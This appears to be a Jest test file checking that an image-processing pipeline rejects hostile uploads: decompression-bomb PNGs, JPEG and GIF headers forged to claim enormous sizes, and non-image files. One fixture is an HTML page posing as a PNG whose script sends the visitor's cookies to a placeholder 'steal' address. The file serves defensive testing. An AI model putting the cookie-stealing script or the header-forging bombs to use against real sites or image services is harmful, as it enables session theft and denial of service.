/**
 * Hostile and broken inputs, end to end through the core: each one must end as a `failed` manifest
 * and a `pixelpipe.image.failed.v1` event naming the problem, with one log line; never a crash, a
 * retry, a hang or a large allocation.
 */
import sharp from 'sharp';
import { animatedGif, decompressionBombPng, randomBytes, readSample, smallJpeg, truncatedJpeg } from '../../scripts/fixtures';
import type { ImageProcessor } from '../../shared/ports';
import { expectFailed, harness, processor, spiedProcessor, within } from './harness';

const CASE_MS = 10_000;

/** Rewrites the SOF0 frame size of a baseline JPEG: the header promises far more pixels than the data holds. */
function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i + 9 < out.length;) {
    if (out[i] !== 0xff) throw new Error('not at a marker');
    const marker = out[i + 1];
    const len = out.readUInt16BE(i + 2);
    if (marker === 0xc0 || marker === 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + len;
  }
  throw new Error('no SOF marker');
}

/** Rewrites a GIF's logical screen size and, with `frame`, its first image descriptor's size too. */
function gifClaiming(gif: Buffer, width: number, height: number, frame: boolean): Buffer {
  const out = Buffer.from(gif);
  out.writeUInt16LE(width, 6);
  out.writeUInt16LE(height, 8);
  if (!frame) return out;
  // Skip the global colour table and any extension blocks to the first image descriptor (0x2c).
  let i = 13;
  if (out[10] & 0x80) i += 3 * (1 << ((out[10] & 7) + 1));
  while (out[i] === 0x21) {
    i += 2;
    while (out[i] !== 0) i += out[i] + 1;
    i++;
  }
  if (out[i] !== 0x2c) throw new Error('no image descriptor');
  out.writeUInt16LE(width, i + 5);
  out.writeUInt16LE(height, i + 7);
  return out;
}

describe('bad images end failed, with an event naming the problem', () => {
  test(
    'zero bytes → empty_file',
    async () => {
      const h = harness();
      expectFailed(await within(CASE_MS, h.run(Buffer.alloc(0))), 'empty_file');
    },
    CASE_MS,
  );

  test(
    'a truncated JPEG → corrupt_image',
    async () => {
      const h = harness();
      expectFailed(await within(CASE_MS, h.run(await truncatedJpeg())), 'corrupt_image');
    },
    CASE_MS,
  );

  test(
    'a JPEG with corrupt scan data (samples/corrupt.jpg) → corrupt_image',
    async () => {
      const h = harness();
      expectFailed(await within(CASE_MS, h.run(readSample('corrupt.jpg'))), 'corrupt_image');
    },
    CASE_MS,
  );

  test(
    'random bytes named photo.jpg and sent as image/jpeg → unsupported_type',
    async () => {
      const h = harness();
      const r = await within(CASE_MS, h.run(randomBytes(64 * 1024, 7), { filename: 'photo.jpg', contentType: 'image/jpeg' }));
      expectFailed(r, 'unsupported_type');
      expect(r.manifest.source.filename).toBe('photo.jpg');
    },
    CASE_MS,
  );

  test(
    'an HTML page with a script, uploaded as image/png → unsupported_type',
    async () => {
      const h = harness();
      const html = Buffer.from('<!doctype html><html><body><script>fetch("http://127.0.0.1:1/steal?c="+document.cookie)</script></body></html>');
      const r = await within(CASE_MS, h.run(html, { contentType: 'image/png', filename: 'cat.png' }));
      expectFailed(r, 'unsupported_type');
      expect(r.manifest.reason?.message).toContain('text/html');
    },
    CASE_MS,
  );

  test(
    'a PDF → unsupported_type',
    async () => {
      const h = harness();
      expectFailed(await within(CASE_MS, h.run(Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n'))), 'unsupported_type');
    },
    CASE_MS,
  );

  test(
    'a TIFF while TIFF is not allowed → type_not_allowed',
    async () => {
      const h = harness();
      const tiff = await sharp(await smallJpeg(64, 48))
        .tiff()
        .toBuffer();
      expectFailed(await within(CASE_MS, h.run(tiff, { contentType: 'image/tiff' })), 'type_not_allowed');
    },
    CASE_MS,
  );

  test(
    'SVG with the default settings → svg_not_allowed',
    async () => {
      const h = harness();
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>');
      expectFailed(await within(CASE_MS, h.run(svg, { contentType: 'image/svg+xml' })), 'svg_not_allowed');
    },
    CASE_MS,
  );

  describe('decompression bombs are refused from the header, before decoding', () => {
    let bomb: Buffer;
    beforeAll(async () => {
      bomb = await decompressionBombPng(30000, 30000);
    }, 30_000);

    test(
      'a ~110 KB PNG declaring 30000×30000 (2.7 GB of RGB) → too_many_pixels from the header probe; no decode starts',
      async () => {
        expect(bomb.length).toBeLessThan(200 * 1024);
        const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
        expect([meta.width, meta.height]).toEqual([30000, 30000]);
        // Time and memory of the refusal are measured by `npm run bench` (hostile inputs), in a fresh process.
        const { proc, probe, decode } = spiedProcessor();
        const h = harness({}, { processor: proc });
        const info = await h.upload(bomb, { contentType: 'image/png' });
        const { outcome } = await h.process({ bucket: info.bucket, key: info.key, generation: info.generation });
        expect(outcome.status === 'failed' && outcome.manifest.reason?.code).toBe('too_many_pixels');
        expect(probe).toHaveBeenCalledTimes(1);
        await expect(probe.mock.results[0].value).rejects.toMatchObject({ code: 'too_many_pixels' });
        expect(decode).not.toHaveBeenCalled();
        const { event } = await h.notify(info.key.split('/').pop()!);
        expect(event.data.reason?.code).toBe('too_many_pixels');
      },
      CASE_MS,
    );

    test(
      'the same bomb through the use case, with the full contract',
      async () => {
        const h = harness();
        expectFailed(await within(CASE_MS, h.run(bomb, { contentType: 'image/png' })), 'too_many_pixels');
      },
      CASE_MS,
    );

    test(
      'a JPEG header claiming 60000×60000 → too_many_pixels',
      async () => {
        const h = harness();
        expectFailed(await within(CASE_MS, h.run(jpegClaiming(await smallJpeg(64, 48), 60000, 60000))), 'too_many_pixels');
      },
      CASE_MS,
    );

    test(
      'a GIF whose screen and frame claim 65535×65535 → too_many_pixels',
      async () => {
        const h = harness();
        expectFailed(
          await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, true), { contentType: 'image/gif' })),
          'too_many_pixels',
        );
      },
      CASE_MS,
    );

    test(
      'a GIF whose logical screen alone claims 65535×65535 is rendered at its real 32×32 frame size',
      async () => {
        const h = harness();
        const r = await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, false), { contentType: 'image/gif' }));
        expect(r.outcome.status).toBe('processed');
        expect(r.manifest.source).toMatchObject({ width: 32, height: 32 });
      },
      CASE_MS,
    );
  });

  test(
    'more pixels than PIXELPIPE_MAX_INPUT_PIXELS → too_many_pixels',
    async () => {
      const h = harness({ PIXELPIPE_MAX_INPUT_PIXELS: '100000' });
      const r = await within(CASE_MS, h.run(await smallJpeg(640, 480)));
      expectFailed(r, 'too_many_pixels');
      expect(r.manifest.reason?.message).toContain('640x480');
    },
    CASE_MS,
  );

  test(
    'more bytes than PIXELPIPE_MAX_INPUT_BYTES (signed upload bound bypassed) → too_many_bytes, and the decoder never runs',
    async () => {
      const render = jest.fn<ReturnType<ImageProcessor['render']>, Parameters<ImageProcessor['render']>>((...args) => processor.render(...args));
      const h = harness({ PIXELPIPE_MAX_INPUT_BYTES: '10000' }, { processor: { render } });
      const jpeg = await smallJpeg(640, 480);
      expect(jpeg.length).toBeGreaterThan(10000);
      const r = await within(CASE_MS, h.run(jpeg));
      expectFailed(r, 'too_many_bytes');
      expect(render).not.toHaveBeenCalled();
      expect(r.manifest.source.bytes).toBe(jpeg.length);
    },
    CASE_MS,
  );

  test(
    'an animated GIF with more frames than PIXELPIPE_MAX_FRAMES → too_many_frames',
    async () => {
      const h = harness({ PIXELPIPE_MAX_FRAMES: '5' });
      const r = await within(CASE_MS, h.run(await animatedGif(64, 48, 8), { contentType: 'image/gif' }));
      expectFailed(r, 'too_many_frames');
      expect(r.manifest.reason?.message).toContain('8 frames');
    },
    CASE_MS,
  );
});
